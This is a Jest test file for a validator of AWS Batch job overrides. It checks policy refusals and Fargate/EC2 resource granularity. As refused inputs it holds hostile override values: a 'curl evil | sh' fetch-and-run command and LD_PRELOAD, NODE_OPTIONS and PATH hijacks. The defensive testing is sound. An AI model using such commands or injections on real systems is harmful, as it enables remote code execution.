import { checkOverridePolicy, checkOverrides, fargateMemoryFits, FARGATE_VCPUS, OverrideTarget } from '../../lib/model/overrides';

const FARGATE: OverrideTarget = { declaredName: 'align', platform: 'FARGATE', overrides: {}, resources: { vcpus: 1, memoryMiB: 2048 } };
const EC2: OverrideTarget = { declaredName: 'render', platform: 'EC2', overrides: {}, resources: { vcpus: 8, memoryMiB: 16384, gpus: 1 } };
const rules = (problems: ReturnType<typeof checkOverrides>) => problems.map((problem) => [problem.field, problem.rule]);

describe('Function: checkOverrides', () => {
  describe('without a policy (the default: callers may override nothing)', () => {
    it.each<[string, object, string]>([
      ['the command', { command: ['sh', '-c', 'curl evil | sh'] }, 'containerOverrides.command'],
      ['LD_PRELOAD', { environment: { LD_PRELOAD: '/tmp/x.so' } }, 'containerOverrides.environment.LD_PRELOAD'],
      ['PATH', { environment: { PATH: '/tmp' } }, 'containerOverrides.environment.PATH'],
      ['NODE_OPTIONS', { environment: { NODE_OPTIONS: '--require /tmp/x.js' } }, 'containerOverrides.environment.NODE_OPTIONS'],
      ['vcpus', { vcpus: 2 }, 'containerOverrides.vcpus'],
      ['memoryMiB', { memoryMiB: 4096 }, 'containerOverrides.memoryMiB'],
    ])('refuses %s, naming the field', (_what, requested, field) => {
      expect(rules(checkOverrides(FARGATE, requested))).toEqual([[field, 'not-allowed']]);
    });

    it('says what the definition would need to declare', () => {
      expect(checkOverrides(FARGATE, { command: ['x'] })).toEqual([
        { field: 'containerOverrides.command', rule: 'not-allowed', message: 'job definition align does not let callers override command; it would need overrides.command: true' },
      ]);
      expect(checkOverrides(FARGATE, { environment: { 'MY VAR': 'x' } })).toEqual([
        { field: 'containerOverrides.environment."MY VAR"', rule: 'not-allowed', message: 'is not an environment variable job definition align lets callers set; allowed: (none)' },
      ]);
    });

    it('accepts no overrides at all', () => {
      expect(checkOverrides(FARGATE, {})).toEqual([]);
    });
  });

  describe('with a policy', () => {
    const target: OverrideTarget = { ...FARGATE, overrides: { command: true, environment: ['SAMPLE'], maxVcpus: 4, maxMemoryMebibytes: 8192 } };

    it('accepts what it declares', () => {
      expect(checkOverrides(target, { command: ['align'], environment: { SAMPLE: 's1' }, vcpus: 4, memoryMiB: 8192 })).toEqual([]);
    });

    it('refuses a variable it does not name, and lists the ones it does', () => {
      expect(checkOverrides(target, { environment: { SAMPLE: 's1', LD_PRELOAD: 'x' } })).toEqual([
        { field: 'containerOverrides.environment.LD_PRELOAD', rule: 'not-allowed', message: 'is not an environment variable job definition align lets callers set; allowed: SAMPLE' },
      ]);
    });

    it('refuses resources above its bounds', () => {
      expect(checkOverrides(target, { vcpus: 8, memoryMiB: 16384 })).toEqual([
        { field: 'containerOverrides.vcpus', rule: 'above-limit', message: 'must be at most 4, what job definition align allows, got 8' },
        { field: 'containerOverrides.memoryMiB', rule: 'above-limit', message: 'must be at most 8192, what job definition align allows, got 16384' },
      ]);
    });
  });

  // AWS Batch API Reference, ResourceRequirement: value. VCPU on Fargate is 0.25, 0.5, 1, 2, 4, 8 or 16, and MEMORY
  // one of the values listed for it; GPUs "aren't available for jobs that are running on Fargate resources"; VCPU on
  // EC2 is a whole number.
  describe("AWS's granularity (ResourceRequirement)", () => {
    const fargate: OverrideTarget = { ...FARGATE, overrides: { maxVcpus: 16, maxMemoryMebibytes: 122880 } };
    const ec2: OverrideTarget = { ...EC2, overrides: { maxVcpus: 64, maxMemoryMebibytes: 262144, maxGpus: 4 } };

    it.each([0.25, 0.5, 1, 2, 4, 8, 16])('accepts %d vCPUs on Fargate with memory that fits', (vcpus) => {
      expect(checkOverrides(fargate, { vcpus, memoryMiB: vcpus === 0.25 ? 512 : vcpus * 2048 })).toEqual([]);
    });

    it.each([3, 5, 6, 12])('refuses %d vCPUs on Fargate', (vcpus) => {
      expect(rules(checkOverrides(fargate, { vcpus }))).toEqual([['containerOverrides.vcpus', 'granularity']]);
    });

    it('refuses memory Fargate does not pair with the vCPUs asked for', () => {
      expect(checkOverrides(fargate, { vcpus: 4, memoryMiB: 2048 })).toEqual([
        { field: 'containerOverrides.memoryMiB', rule: 'granularity', message: 'Fargate with 4 vCPU takes 8192 to 30720 MiB in steps of 1024, got 2048 MiB' },
      ]);
      expect(rules(checkOverrides(fargate, { vcpus: 0.25, memoryMiB: 1536 }))).toEqual([['containerOverrides.memoryMiB', 'granularity']]);
    });

    it("checks a lone override against the definition's own other resource", () => {
      expect(checkOverrides(fargate, { vcpus: 4 })).toEqual([
        {
          field: 'containerOverrides.vcpus',
          rule: 'granularity',
          message: 'Fargate with 4 vCPU takes 8192 to 30720 MiB in steps of 1024, got 2048 MiB (job definition align has 2048 MiB; override memoryMiB too)',
        },
      ]);
      expect(rules(checkOverrides(fargate, { memoryMiB: 9216 }))).toEqual([['containerOverrides.memoryMiB', 'granularity']]);
      expect(checkOverrides(fargate, { memoryMiB: 8192 })).toEqual([]);
    });

    it('refuses GPUs on Fargate, whatever the policy says', () => {
      expect(rules(checkOverrides({ ...fargate, overrides: { maxGpus: 2 } }, { gpus: 1 }))).toEqual([['containerOverrides.gpus', 'platform']]);
    });

    it('refuses a fractional vCPU on EC2 and accepts whole ones', () => {
      expect(rules(checkOverrides(ec2, { vcpus: 0.5 }))).toEqual([['containerOverrides.vcpus', 'granularity']]);
      expect(checkOverrides(ec2, { vcpus: 3, memoryMiB: 5000, gpus: 2 })).toEqual([]);
    });
  });
});

describe('Function: checkOverridePolicy', () => {
  it('accepts a policy within the platform', () => {
    expect(checkOverridePolicy({ command: true, environment: ['SAMPLE', '_X1'], maxVcpus: 4, maxMemoryMebibytes: 8192 }, 'FARGATE')).toEqual([]);
    expect(checkOverridePolicy({ maxVcpus: 96, maxGpus: 8 }, 'EC2')).toEqual([]);
  });

  it('names every problem', () => {
    expect(checkOverridePolicy({ environment: ['1X', 'AWS_BATCH_JOB_ID'], maxVcpus: 0.5, maxMemoryMebibytes: 2, maxGpus: 1.5 }, 'EC2')).toEqual([
      'overrides.environment: "1X" is not an environment variable name a caller may set (a letter or "_", then letters, digits or "_"; not AWS_BATCH*)',
      'overrides.environment: "AWS_BATCH_JOB_ID" is not an environment variable name a caller may set (a letter or "_", then letters, digits or "_"; not AWS_BATCH*)',
      'overrides.maxVcpus must be a whole number from 1 to 256, got 0.5',
      'overrides.maxMemoryMebibytes must be a whole number of MiB from 4 to 4194304, got 2',
      'overrides.maxGpus must be a whole number from 0 to 64, got 1.5',
    ]);
  });
});

describe('Function: fargateMemoryFits', () => {
  it('knows the pairs the ResourceRequirement page lists', () => {
    expect(FARGATE_VCPUS).toEqual([0.25, 0.5, 1, 2, 4, 8, 16]);
    expect([512, 1024, 2048].every((memory) => fargateMemoryFits(0.25, memory))).toBe(true);
    expect(fargateMemoryFits(0.25, 1536)).toBe(false);
    expect(fargateMemoryFits(16, 122880)).toBe(true);
    expect(fargateMemoryFits(16, 122880 + 8192)).toBe(false);
    expect(fargateMemoryFits(3, 6144)).toBe(false);
  });
});
